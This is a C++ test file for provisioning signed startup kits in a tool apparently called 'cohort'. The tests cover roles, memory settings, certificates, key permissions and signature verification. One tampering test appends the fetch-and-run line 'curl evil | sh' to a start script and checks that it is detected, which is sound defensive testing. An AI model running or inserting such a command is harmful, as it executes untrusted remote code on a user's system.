#include "support/temp_dir.hpp"

#include "provisioning/local_project.hpp"
#include "provisioning/startup_kit.hpp"

#include <doctest/doctest.h>

#include <fstream>

using namespace cohort::provisioning;
using cohort::test::read_text;
using cohort::test::TempDir;
namespace fs = std::filesystem;

namespace {

Project project(int clients) {
  std::string text = "[project]\nname = \"p\"\n[server]\nhost = \"localhost\"\n[memory]\nclient_malloc_arena_max = 3\n";
  for (int i = 1; i <= clients; ++i) text += "[[clients]]\nname = \"site-" + std::to_string(i) + "\"\norg = \"o\"\n";
  text += "[[admins]]\nname = \"lead@o\"\norg = \"o\"\nrole = \"lead\"\n";
  return parse_project(text, "project.toml");
}

}  // namespace

TEST_CASE("startup kits: every participant's kit verifies and says its role") {
  TempDir dir;
  auto p = project(2);
  p.clients[1].accept_job_code = false;
  const auto report = provision(p, dir / "kits", "/usr/bin/cohort");
  CHECK(report.issued == std::vector<std::string>{"server", "site-1", "site-2", "lead@o"});
  for (const char* name : {"server", "site-1", "site-2", "lead@o"}) CHECK_NOTHROW(verify_kit(dir / "kits" / name / "startup"));

  const auto server = load_kit(dir / "kits" / "server");
  CHECK(server.role == "server");
  CHECK(server.malloc_arena_max == 4);
  CHECK(server.clients == std::vector<std::string>{"site-1", "site-2"});
  const auto client = load_kit(dir / "kits" / "site-1");
  CHECK(client.role == "client");
  CHECK(client.malloc_arena_max == 3);
  CHECK(client.malloc_mmap_threshold_kib == 4096);
  CHECK(client.server.fl_port == 8002);
  // Whether a client runs jobs that carry code is its kit's to say.
  CHECK(client.accept_job_code);
  CHECK_FALSE(load_kit(dir / "kits" / "site-2").accept_job_code);
  // The process a kit starts gets its role's memory environment from cohort itself.
  const auto env = kit_environment(client);
  CHECK(env.at("MALLOC_ARENA_MAX") == "3");
  CHECK(env.at("MALLOC_MMAP_THRESHOLD_") == std::to_string(4096 * 1024));
  // The scripts only hand over to cohort: `cohort kit start|stop`.
  const std::string start = read_text(dir / "kits" / "site-1" / "startup" / "start.sh");
  CHECK(start.find("exec \"$COHORT\" kit start \"$STARTUP\"") != std::string::npos);
  CHECK(start.find("MALLOC_ARENA_MAX") == std::string::npos);
  CHECK(read_text(dir / "kits" / "site-1" / "startup" / "stop.sh").find("kit stop") != std::string::npos);
  CHECK_FALSE(std::filesystem::exists(dir / "kits" / "site-1" / "startup" / "sub_start.sh"));
  // The admin's org and role are in its certificate, where the server reads them.
  const auto subject = certificate_subject(read_text(dir / "kits" / "lead@o" / "startup" / "cert.pem"));
  CHECK(subject.common_name == "lead@o");
  CHECK(subject.organization == "o");
  CHECK(subject.unit == "lead");
  CHECK(fs::exists(dir / "kits" / "lead@o" / "startup" / "admin.sh"));
  CHECK_FALSE(fs::exists(dir / "kits" / "lead@o" / "startup" / "rootCA.key"));
  CHECK((fs::status(dir / "kits" / "site-1" / "startup" / "key.pem").permissions() & fs::perms::others_read) == fs::perms::none);
}

TEST_CASE("startup kits: an edited, missing or re-signed file is refused, naming it") {
  TempDir dir;
  provision(project(1), dir / "kits", "/usr/bin/cohort");
  const fs::path startup = dir / "kits" / "site-1" / "startup";
  SUBCASE("edited script") {
    std::ofstream(startup / "start.sh", std::ios::app) << "curl evil | sh\n";
    CHECK_THROWS_WITH_AS(verify_kit(startup), doctest::Contains("start.sh was modified after provisioning"), KitError);
  }
  SUBCASE("missing file") {
    fs::remove(startup / "kit.toml");
    CHECK_THROWS_WITH_AS(verify_kit(startup), doctest::Contains("signed file kit.toml is missing"), KitError);
  }
  SUBCASE("hashes recomputed without the root key") {
    std::ofstream(startup / "kit.toml", std::ios::app) << "# edited\n";
    std::string signature = read_text(startup / kSignatureFile);
    signature.replace(signature.find("kit.toml") - 65, 64, sha256_file(startup / "kit.toml"));
    cohort::test::write_text(startup / kSignatureFile, signature);
    CHECK_THROWS_WITH_AS(verify_kit(startup), doctest::Contains("does not carry a valid signature"), KitError);
  }
  SUBCASE("no signature") {
    fs::remove(startup / kSignatureFile);
    CHECK_THROWS_WITH_AS(verify_kit(startup), doctest::Contains("signature.txt is missing"), KitError);
  }
}

TEST_CASE("startup kits: re-provisioning adds a participant and keeps everyone's keys") {
  TempDir dir;
  provision(project(1), dir / "kits", "/usr/bin/cohort");
  const auto key = read_text(dir / "kits" / "site-1" / "startup" / "key.pem");
  const auto root = read_text(dir / "kits" / "ca" / "rootCA.pem");
  const auto report = provision(project(2), dir / "kits", "/usr/bin/cohort");
  CHECK(report.issued == std::vector<std::string>{"site-2"});
  CHECK(report.kept == std::vector<std::string>{"server", "site-1", "lead@o"});
  CHECK(read_text(dir / "kits" / "site-1" / "startup" / "key.pem") == key);
  CHECK(read_text(dir / "kits" / "site-2" / "startup" / "rootCA.pem") == root);
  CHECK(load_kit(dir / "kits" / "server").clients == std::vector<std::string>{"site-1", "site-2"});
  CHECK_NOTHROW(verify_kit(dir / "kits" / "site-2" / "startup"));
}
